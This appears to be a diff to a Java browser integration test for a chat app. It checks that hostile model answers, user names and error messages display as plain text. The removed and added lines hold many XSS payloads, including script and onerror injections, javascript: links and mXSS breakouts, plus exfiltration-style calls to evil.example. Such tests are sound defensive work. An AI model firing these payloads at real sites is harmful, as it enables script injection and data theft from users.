@@ -3,45 +3,36 @@ package dev.verbatim.browser;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import dev.verbatim.boot.Gateway;
+import dev.verbatim.chat.auth.SigningKeys;
 import dev.verbatim.browser.ChatPage.Shown;
+import dev.verbatim.testing.ChatClient;
 import dev.verbatim.testing.Gateways;
+import dev.verbatim.testing.Jwt;
 import dev.verbatim.testing.ReplayProvider;
 import dev.verbatim.testing.ReplayProvider.Response;
 import dev.verbatim.testing.TestPostgres;
 import io.vertx.core.Vertx;
+import io.vertx.core.buffer.Buffer;
+import io.vertx.core.json.JsonObject;
+import java.time.Instant;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
 import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.TestInstance;
 
-/** An answer that attacks the page, in pieces that tear its tags: nothing runs, nothing is loaded, and its words are shown. */
+/** Words that attack the page, in pieces that tear their tags: nothing runs, nothing is loaded, and they are shown as the words they are. */
 @TestInstance(TestInstance.Lifecycle.PER_CLASS)
 class HostileAnswerIT {
     private static final int LONGEST_PIECE = 3;
-    private static final String HOSTILE = String.join(
-            "\n\n",
-            "<script>window.ran=1</script> one",
-            "<img src=x onerror=window.ran=2> two",
-            "<svg/onload=window.ran=3> <svg><script>window.ran=3</script></svg> three",
-            "<iframe srcdoc=\"<script>parent.ran=4</script>\"></iframe> four",
-            "[five](javascript:window.ran=5) [five](java\tscript:window.ran=5) [five](&#106;avascript:window.ran=5)",
-            "[six](data:text/html,<script>window.ran=6</script>) <javascript:window.ran=6>",
-            "![seven](https://evil.example/?q=secret) ![seven](//evil.example/x.png)",
-            "<style>@import 'https://evil.example/x.css'; * { background: url(https://evil.example/y) }</style> eight",
-            "<link rel=stylesheet href=https://evil.example/z.css><base href=https://evil.example/> nine",
-            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.ran=10&gt;\"> ten",
-            "<form action=https://evil.example/><input name=q><button>Press</button></form> eleven",
-            "[twelve](https://example.org/\"onmouseover=\"window.ran=12) [twelve]: https://x.example/ 'a\"onclick=\"window.ran=12'",
-            "<details open ontoggle=window.ran=13><summary>thirteen</summary></details>",
-            "<meta http-equiv=refresh content=\"0;url=https://evil.example/\"> fourteen",
-            "<noscript><p title=\"</noscript><img src=x onerror=window.ran=15>\"> fifteen",
-            "<video><source onerror=window.ran=16></video><object data=https://evil.example/o></object> sixteen",
-            "```html\n<script>window.ran=17</script>\n```",
-            "| a | b |\n| --- | --- |\n| <img src=x onerror=window.ran=18> | `<b onclick=window.ran=18>` |",
-            "eighteen and the end");
+    private static final String HOSTILE = String.join("\n\n", HostileMarkdown.CASES);
+    private static final String NAME = "<img src=x onerror=window.ran=201> \"'><svg/onload=window.ran=202>";
+    private static final String TROUBLE = "<img src=x onerror=window.ran=203><script>window.ran=204</script> it broke";
+    private static final String SECRET = "a-secret-of-the-hostile-tests-0123456789";
 
     private final Vertx vertx = Vertx.vertx();
     private ReplayProvider provider;
@@ -51,28 +42,67 @@ class HostileAnswerIT {
     @BeforeAll
     void start() {
         provider = ReplayProvider.start(vertx).await();
-        provider.prepare("hostile", Response.openAi(pieces(), 1));
+        provider.prepare("hostile", Response.openAi(pieces(HOSTILE), 1));
+        provider.prepare("broken", broken());
         Map<String, String> environment = Map.of(
-                "OPENAI_API_KEY", "key-of-the-tests",
-                "OPENAI_BASE_URL", provider.baseUrl(),
-                "OPENAI_MODEL", "hostile");
+                "OPENAI_API_KEY",
+                "key-of-the-tests",
+                "OPENAI_BASE_URL",
+                provider.baseUrl(),
+                "OPENAI_MODEL",
+                "hostile",
+                "VERBATIM_AUTH_SECRET",
+                SECRET);
         gateway = Gateways.on(TestPostgres.freshDatabase(), environment);
-        browser = Browser.start();
     }
 
-    private static List<String> pieces() {
+    @BeforeEach
+    void open() {
+        browser = Browser.start();
+        browser.onEveryPage(
+                "window.violations = []; document.addEventListener('securitypolicyviolation', e => window.violations.push(e.violatedDirective + ' ' + e.blockedURI));");
+        browser.onEveryPage("localStorage.setItem('verbatim.guest', JSON.stringify(%s));".formatted(attacker()));
+    }
+
+    @AfterEach
+    void close() {
+        browser.close();
+    }
+
+    private static List<String> pieces(String text) {
         List<String> pieces = new ArrayList<>();
-        for (int from = 0; from < HOSTILE.length(); ) {
-            int to = Math.min(HOSTILE.length(), from + 1 + pieces.size() % LONGEST_PIECE);
-            pieces.add(HOSTILE.substring(from, to));
+        for (int from = 0; from < text.length(); ) {
+            int to = Math.min(text.length(), from + 1 + pieces.size() % LONGEST_PIECE);
+            pieces.add(text.substring(from, to));
             from = to;
         }
         return pieces;
     }
 
+    private static Response broken() {
+        JsonObject error = new JsonObject().put("message", TROUBLE).put("type", "invalid_request_error");
+        Buffer body = new JsonObject().put("error", error).toBuffer();
+        return new Response(400, Map.of("content-type", "application/json"), List.of(body), 0);
+    }
+
+    private String token(String userId) {
+        long expiry = Instant.now().getEpochSecond() + 3600;
+        return SigningKeys.hs256(
+                new JsonObject().put("sub", userId).put("name", NAME).put("exp", expiry), SECRET);
+    }
+
+    /** Somebody whose name attacks too. */
+    private JsonObject attacker() {
+        return new JsonObject()
+                .put("token", token("mallory"))
+                .put("userId", "mallory")
+                .put("name", NAME)
+                .put("expiresAt", Instant.now().plusSeconds(3600).toString())
+                .put("roomId", "lobby");
+    }
+
     @AfterAll
     void stop() {
-        browser.close();
         gateway.close();
         provider.close();
         vertx.close().await();
@@ -86,8 +116,11 @@ class HostileAnswerIT {
         Shown answer = page.awaitStatus(reply, "complete");
         browser.screenshot("hostile-answer");
 
-        assertThat(answer.length()).isEqualTo(HOSTILE.length());
-        assertThat(answer.words()).contains("<script>window.ran=1</script>", "eighteen and the end");
+        assertThat(answer.words())
+                .contains("<script>window.ran=1</script>")
+                .contains(HostileMarkdown.CASES.stream()
+                        .map(HostileAnswerIT::lastWord)
+                        .toList());
         assertHarmless(page);
         page.reload();
         assertThat(page.awaitStatus(reply, "complete")).isEqualTo(answer);
@@ -95,19 +128,46 @@ class HostileAnswerIT {
         aViolationWouldHaveBeenSeen(page);
     }
 
+    private static String lastWord(String text) {
+        return text.substring(Math.max(text.lastIndexOf('\n'), text.lastIndexOf(' ')) + 1);
+    }
+
+    @Test
+    void namesAndReasonsAreShownAsTheWordsTheyAre() {
+        ChatPage page = ChatPage.open(browser, gateway.chatUrl());
+        ChatClient other = ChatClient.withToken(gateway.chatUrl(), token("trudy"), frame -> {});
+        other.join("lobby");
+
+        other.send(
+                "send",
+                new JsonObject().put("roomId", "lobby").put("text", "hello").put("model", "broken"));
+        ChatPage.until(
+                () -> page.answers().stream().anyMatch(answer -> answer.status().equals("failed")));
+        browser.screenshot("hostile-names");
+        Object shown = page.run("return document.body.innerText");
+
+        assertThat((String) shown).contains(NAME, TROUBLE);
+        assertHarmless(page);
+    }
+
     private void assertHarmless(ChatPage page) {
         assertThat(page.run("return window.ran")).isNull();
-        assertThat(page.run("return location.href")).isEqualTo(gateway.chatUrl() + "/");
+        assertThat(page.run("return location.href.split('#')[0]")).isEqualTo(gateway.chatUrl() + "/");
         List<?> targets = (List<?>)
                 page.run(
-                        "return [...document.querySelectorAll('article a[href]')].map(a => a.href).filter(h => !/^https?:/.test(h))");
+                        "return [...document.querySelectorAll('article a[href]')].map(a => a.href).filter(h => !/^(https?|mailto):/.test(h))");
         assertThat(targets).isEmpty();
         Object active = page.run(
-                "return document.querySelectorAll("
-                        + "'article :is(script, img, iframe, style, link, form, input, object, video, svg, math, base, meta)').length");
-        assertThat(active).isEqualTo(0L);
+                "return [...document.querySelectorAll('article :is(script, img, iframe, style, link, form, input, object, embed, video, audio, svg,"
+                        + " math, base, meta, picture, template, select, textarea, button, [style], [id], [name])')]"
+                        + ".filter(found => !found.closest('button.icon')).map(found => found.outerHTML)");
+        assertThat((List<?>) active).isEmpty();
+        Object handlers = page.run(
+                "return [...document.querySelectorAll('article *')].filter(e => e.getAttributeNames().some(n => n.startsWith('on'))).length");
+        assertThat(handlers).isEqualTo(0L);
+        assertThat((List<?>) page.run("return window.violations")).isEmpty();
         assertThat(browser.console()).noneMatch(line -> line.contains("Content Security Policy"));
-        assertThat(browser.console()).noneMatch(line -> line.startsWith("SEVERE"));
+        assertThat(browser.console()).noneMatch(line -> line.startsWith("SEVERE") && !line.contains("/api/rooms "));
         String own = gateway.chatUrl().getAuthority();
         assertThat(browser.requests()).isNotEmpty().allMatch(url -> url.contains("//" + own + "/"));
     }
@@ -115,6 +175,6 @@ class HostileAnswerIT {
     private void aViolationWouldHaveBeenSeen(ChatPage page) {
         page.run("new Image().src = 'https://evil.example/control'");
 
-        ChatPage.until(() -> browser.console().stream().anyMatch(line -> line.contains("Content Security Policy")));
+        ChatPage.until(() -> !((List<?>) page.run("return window.violations")).isEmpty());
     }
 }
